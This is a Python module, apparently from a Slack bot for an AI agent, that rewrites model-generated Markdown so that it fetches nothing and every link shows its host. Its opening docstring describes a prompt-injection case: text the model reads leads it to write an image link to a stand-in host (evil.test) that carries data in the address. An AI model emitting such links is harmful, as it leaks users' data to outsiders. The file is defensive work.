"""A model's Markdown, made harmless: it fetches nothing, rings nobody at large, and each link shows where it leads.

A text that the model read may have it write `![x](https://evil.test/p.png?d=...)`: whatever shows the picture tells evil.test
what the address is. So pictures become links, links show their host, and what is no clear address is no link.

Slack fetches what a link leads to and shows a preview of it, also in a stream, where nothing turns that off; but not where the
link's text is a part of its address, without `https://` (docs.slack.dev, Unfurling links in messages). So that is what links
show, and other words stand before them.
"""

import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

from agent.approvals.hosts import link_host
from bot.cards.harmless_text import readable

MARKDOWN_CHARACTERS = 12_000  # in all markdown blocks of a message (reference: Slack, Limits)

# Only at the very beginning of a line a fence opens code: within a list or a quotation other lines end it.
_OPENING = re.compile(r"(`{3,})[^`\n]*$|(~{3,})[^\n]*$", re.MULTILINE)
_CLOSING = re.compile(r" {0,3}(`{3,}|~{3,})[ \t]*$", re.MULTILINE)
_CODE = re.compile(r"(?<!`)`([^`\n]+)`(?!`)")
_OURS = re.compile(r"<(?:[@#][A-Z0-9]+(?:\|[^<>|\n]*)?|!date\^\d+\^[^<>|^\n]+\|[^<>|\n]+)>")
_ANGLE = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]*:[^<>|\s]*)(?:\|([^<>\n]*))?>")
_LIVE_ANGLE = re.compile(r"<(?=[!@#/?A-Za-z])")
_BARE = re.compile(r"(?:https?|ftp):[/\\][^\s<>`\[\]]*", re.IGNORECASE)
_SPECIAL = re.compile(r"[\\`<\[!]|(?:https?|ftp):[/\\]", re.IGNORECASE)
_BEGUN = re.compile(r"(?:ht?t?p?s?|ft?p?):?\Z", re.IGNORECASE)  # of an address, at the end of a text that may go on
_TARGET = re.compile(r"\(\s*(?:<([^<>\n]*)>|((?:[^\s()<>]|\([^\s()]*\))*))(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?\s*\)")
_SCHEME = re.compile(r"(?:https?|ftp):[/\\]+", re.IGNORECASE)
# What formats a text, in an address that is shown.
_MARK, _ESCAPED = re.compile(r"([\\*~]|(?<![A-Za-z0-9])_|_(?![A-Za-z0-9]))"), r"\\\1"
_ENTITY = re.compile(r"&(?=#?\w+;)")
_IN_A_LINK = str.maketrans({character: f"%{ord(character):02X}" for character in "()[]"})
_TRAILING = ".,;:!?)]}'\"*_~"
_PARAGRAPH = re.compile(r"\n[ \t]*\n")
MOST_NESTED = 4  # links and pictures within the text of a link; what is deeper is shown as it is written
_PICTURE = re.compile(r"!?\[([^\[\]]*)\](?:\([^()]*\)|\[[^\[\]]*\])?")


def harmless_markdown(text: str, *, over: bool = True) -> str:
    """Return the Markdown as it is posted.

    With `over` False the text may go on: what further text could change is held back, so that the result is the beginning of
    whatever the whole text will give.
    """
    text = readable(text.replace("\r\n", "\n").removesuffix("" if over else "\r"), over=over)
    made: list[str] = []
    fence = ""
    for part in _fenced_and_prose(text, over=over):
        made.append(part.text if part.code else "".join(_inline(part.text, over=part.whole)))
        fence = part.fence
    if over and fence:  # what one program takes for code to the end, another one takes for text
        made.append(fence if made[-1].endswith("\n") else f"\n{fence}")
    return "".join(made)


CUT = "\n\n_The end of this did not fit into the message._"


def fitted_markdown(text: str) -> str:
    """Return the Markdown for one message. What does not fit, by all that was spelled out in it, is cut, which it says."""
    made, length = harmless_markdown(text), len(text)
    while len(made) > MARKDOWN_CHARACTERS:
        length = length * 9 // 10
        made = harmless_markdown(text[:length]) + CUT
    return made


@dataclass(frozen=True, slots=True)
class _Part:
    """Lines of code, or a text between them. `fence` closes what is open behind it; `whole`: nothing more belongs to it."""

    text: str
    code: bool
    fence: str
    whole: bool


def _fenced_and_prose(text: str, *, over: bool) -> Iterator[_Part]:
    """Yield the text in fenced code and what is between."""
    fence, prose = "", ""
    for line in text.splitlines(keepends=True):
        complete = line.endswith("\n") or over
        if fence:
            if not complete and not line.strip(f" \t{fence[0]}"):
                return  # it may become the end of the code
            closing = _CLOSING.match(line)
            fence = "" if closing and closing[1].startswith(fence) else fence
            yield _Part(_quiet(line), code=True, fence=fence, whole=complete)
        elif opening := _OPENING.match(line):
            yield _Part(prose, code=False, fence="", whole=True)
            prose = ""
            if not complete:
                return  # it may become something else
            fence = opening[1] or opening[2]
            yield _Part(_quiet(line), code=True, fence=fence, whole=True)
        else:
            prose += line
    yield _Part(prose, code=False, fence=fence, whole=over)


def _quiet(code: str) -> str:
    """Return code as it is, but for what Slack could still take for a mention of many or a link."""
    return re.sub(r"<(?=![a-z]|[A-Za-z][A-Za-z0-9+.-]*:)", "&lt;", code)


def _inline(text: str, *, over: bool) -> Iterator[str]:
    """Yield the pieces of a text without fenced code, up to where further text could change something."""
    if not over and (begun := _BEGUN.search(text)):
        text = text[: begun.start()]
    closings = _closings(text)
    at = 0
    while found := _SPECIAL.search(text, at):
        yield text[at : found.start()]
        piece, length = _piece(text, found.start(), closings, over=over)
        if not length:
            return
        if piece.startswith("[") and found[0] not in ("[", "!") and text[: found.start()].endswith(("!", "\\")):
            yield " "  # else the mark before it would make a picture of the link, or no link
        yield piece
        at = found.start() + length
    yield text[at:]


def _closings(text: str) -> dict[int, int]:
    """Return where each bracket closes that does so in its paragraph."""
    opened: list[int] = []
    closings: dict[int, int] = {}
    for found in re.finditer(r"[\[\]]|\n[ \t]*\n", text):
        match found[0]:
            case "[":
                opened.append(found.start())
            case "]" if opened:
                closings[opened.pop()] = found.start()
            case other if other[0] == "\n":
                opened.clear()
            case _:
                pass
    return closings


def _piece(text: str, at: int, closings: Mapping[int, int], *, over: bool) -> tuple[str, int]:
    """Return what replaces the construct that begins there, and how long that is in the text; 0 if it may yet go on."""
    mark = text[at]
    ends = _ends(text, at, over=over)  # whether all that could belong to it is there
    match mark:
        case "\\":
            behind = text[at + 1 : at + 2]
            if behind == "[":
                return "", 1  # what becomes of the bracket is decided there
            length = 2 if behind in ("`", "\\") else 1
            return text[at : at + length], length if behind or over else 0
        case "`":
            code = _CODE.match(text, at)
            if code:
                return (_quiet(code[0]), len(code[0])) if code.end() < len(text) or over else ("", 0)
            run = re.compile("`+").match(text, at)
            assert run is not None
            alone = "\\`" if run[0] == "`" else run[0]  # one that closes nothing here could close something elsewhere
            return (alone, len(run[0])) if "\n" in text[at:] or over else ("", 0)
        case "<":
            return _angle(text, at, ends=ends or "\n" in text[at:] or ">" in text[at:])
        case "[":
            return _link(text, at, at, closings, ends=ends)
        case "!":
            run = len(text) - at - len(text[at:].lstrip("!"))
            if text[at + run : at + run + 1] != "[":
                return mark * run, run if at + run < len(text) or over else 0
            piece, length = _link(text, at, at + run, closings, ends=ends)
            # One of them would make a picture of the link; further ones were only said, and must not stand right before it.
            return (f"{mark * run}\\[" if piece in ("[", "\\[") else f"{(mark * (run - 1) + ' ').lstrip(' ')}{piece}"), length
        case _:
            return _bare(text, at, over=over)


def _ends(text: str, at: int, *, over: bool) -> bool:
    return over or _PARAGRAPH.search(text, at) is not None


def _angle(text: str, at: int, *, ends: bool) -> tuple[str, int]:
    if ours := _OURS.match(text, at):
        return ours[0], len(ours[0])
    if found := _ANGLE.match(text, at):
        address, label = found[1], found[2]
        return _shown(label or "", address), len(found[0])
    if not ends:
        return "", 0
    return ("&lt;" if _LIVE_ANGLE.match(text, at) else "<"), 1


def _link(text: str, begin: int, at: int, closings: Mapping[int, int], *, ends: bool) -> tuple[str, int]:
    """Return a link or a picture whose bracket opens `at`. A definition of a reference is broken, so that nothing refers to
    it."""
    close = closings.get(at)
    if close is None or close + 1 >= len(text):
        return ("[" if close else "\\[", at + 1 - begin) if ends else ("", 0)
    if text[close + 1] == ":":
        return "\\[", at + 1 - begin
    if text[close + 1] != "(":  # by an escape within, another program may see it close later
        return "\\[" if "\\" in text[at:close] else "[", at + 1 - begin
    target = _TARGET.match(text, close + 1)
    if target is None:
        return ("\\[", at + 1 - begin) if ends else ("", 0)
    address = target[1] if target[1] is not None else target[2]
    if not re.match(r"\s*(?:[A-Za-z][A-Za-z0-9+.-]*:|[/\\]{2})", address):
        return "\\[", at + 1 - begin  # it leads nowhere: a place in code, a path
    return _shown(text[at + 1 : close], address), target.end() - begin


def _shown(label: str, address: str) -> str:
    """Return a link that says where it leads; where programs could read its address in two ways, that address as a text."""
    for _ in range(MOST_NESTED):
        label = _PICTURE.sub(r"\1", label)
    label = re.sub(r"([\[\]])", r"\\\1", re.sub(r"\\(?=[\[\]])", "", _LIVE_ANGLE.sub("&lt;", " ".join(label.split()))))
    label = _SCHEME.sub("", label)  # else a part of it would be a link as well
    address = address.strip()
    host = link_host(address)
    if host is None:
        return f"{label} ({_as_text(address)})" if label and address else label or _as_text(address)
    address = _ENTITY.sub("&amp;", address.translate(_IN_A_LINK))
    seen = _SCHEME.sub("", address, count=1)
    if not label or label in (seen, host):
        return f"[{_MARK.sub(_ESCAPED, label or seen)}]({address})"
    return f"{label} ([{_MARK.sub(_ESCAPED, host)}]({address}))"


def _bare(text: str, at: int, *, over: bool) -> tuple[str, int]:
    """Return an address without brackets, which Slack makes a link: it says where it leads, unless it can be read in two ways."""
    found = _BARE.match(text, at)
    assert found is not None
    if found.end() == len(text) and not over:
        return "", 0
    address = found[0].rstrip(_TRAILING)
    return (_shown("", address), len(address)) if address else (text[at], 1)


def _as_text(address: str) -> str:
    """Return an address as a text that no program makes a link of. Code would do, but for a stray ` before it."""
    return re.sub(r"([\\`*_~\[\]<>!])", r"\\\1", re.sub(r":(?=[/\\])", ": ", address))
